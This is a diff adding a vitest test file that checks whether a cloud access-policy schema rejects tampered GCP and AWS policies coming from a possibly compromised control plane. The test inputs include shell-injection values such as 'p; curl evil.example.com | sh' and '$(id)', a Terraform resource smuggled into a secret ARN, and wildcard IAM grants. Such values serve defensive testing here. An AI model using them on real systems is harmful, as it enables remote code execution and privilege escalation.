@@ -1,0 +1,62 @@
+/** What an admin pastes comes from the control plane, which may have been taken over (S7): nothing in it may be read by a shell, by Terraform or by the cloud as more than a name. */
+import { AccessPolicy, awsAccessPolicy, awsSecretPlace, gcpAccessPolicy, gcpSecretPlace } from '@fairlead/contract'
+import { describe, expect, test } from 'vitest'
+
+const nodes = { region: 'eu-central-1', accountId: '123456789012', role: 'ml/nodes' }
+const foreign = 'arn:aws:secretsmanager:us-east-1:999999999999:secret:far/registry-AbCdEf'
+const places = ['team/login', foreign].map((id) => awsSecretPlace(id, nodes)).filter((place) => place !== null)
+const aws = awsAccessPolicy(nodes, places, { customerKeys: true })
+const gcp = gcpAccessPolicy('n@my-project.iam.gserviceaccount.com', [
+  gcpSecretPlace('login', 'my-project'),
+  gcpSecretPlace('projects/123456/locations/europe-west3/secrets/s/versions/1', 'my-project'),
+])
+const [binding] = gcp.bindings
+const [secret] = aws.secret_policies
+const isTaken = (policy: unknown): boolean => AccessPolicy.safeParse(policy).success
+
+test('what a control plane makes is taken', () => {
+  expect([aws, gcp].map(isTaken)).toEqual([true, true])
+})
+
+describe('S7: a policy for Google Cloud is not taken', () => {
+  test.each([
+    { project: 'p; curl evil.example.com | sh' },
+    { project: '$(id)' },
+    { location: 'x`id`' },
+    { secret: 's --project=other' },
+    { secret: 's\nid' },
+    { member: 'serviceAccount:a@b.c & id' },
+    { member: 'allUsers' },
+    { member: 'user:villain@example.com' },
+  ])('with %j', (part) => {
+    expect(isTaken({ ...gcp, bindings: [{ ...binding, ...part }] })).toBe(false)
+  })
+})
+
+describe('S7: a policy for AWS is not taken', () => {
+  const statement = aws.identity_policy.Statement[0]
+  test.each([
+    { Action: '*' },
+    { Action: 'iam:PassRole' },
+    { Resource: '*' },
+    { Resource: [foreign, '*'] },
+    { Resource: 'arn:aws:secretsmanager:us-east-1:999999999999:secret:*' },
+    { Resource: 'arn:aws:s3:::all' },
+    { Sid: 'a\u001b[2J' },
+  ])('where the nodes’ role may do %j', (part) => {
+    expect(
+      isTaken({ ...aws, identity_policy: { ...aws.identity_policy, Statement: [{ ...statement, ...part }] } }),
+    ).toBe(false)
+  })
+
+  test.each(['x\nresource "null_resource" "evil" {}', `${foreign}\n}`])('for the secret %j', (arn) => {
+    expect(isTaken({ ...aws, secret_policies: [{ ...secret, secret: arn }] })).toBe(false)
+    expect(isTaken({ ...aws, key_policies: [{ ...secret, secret: arn }] })).toBe(false)
+  })
+
+  test.each(['*', 'arn:aws:iam::999999999999:root', 'arn:aws:iam::1:role/x'])('with the principal %j', (AWS) => {
+    const open = { ...aws.secret_policies[0]?.policy.Statement[0], Principal: { AWS } }
+    const policy = { Version: '2012-10-17', Statement: [open] }
+    expect(isTaken({ ...aws, secret_policies: [{ ...secret, policy }] })).toBe(false)
+  })
+})
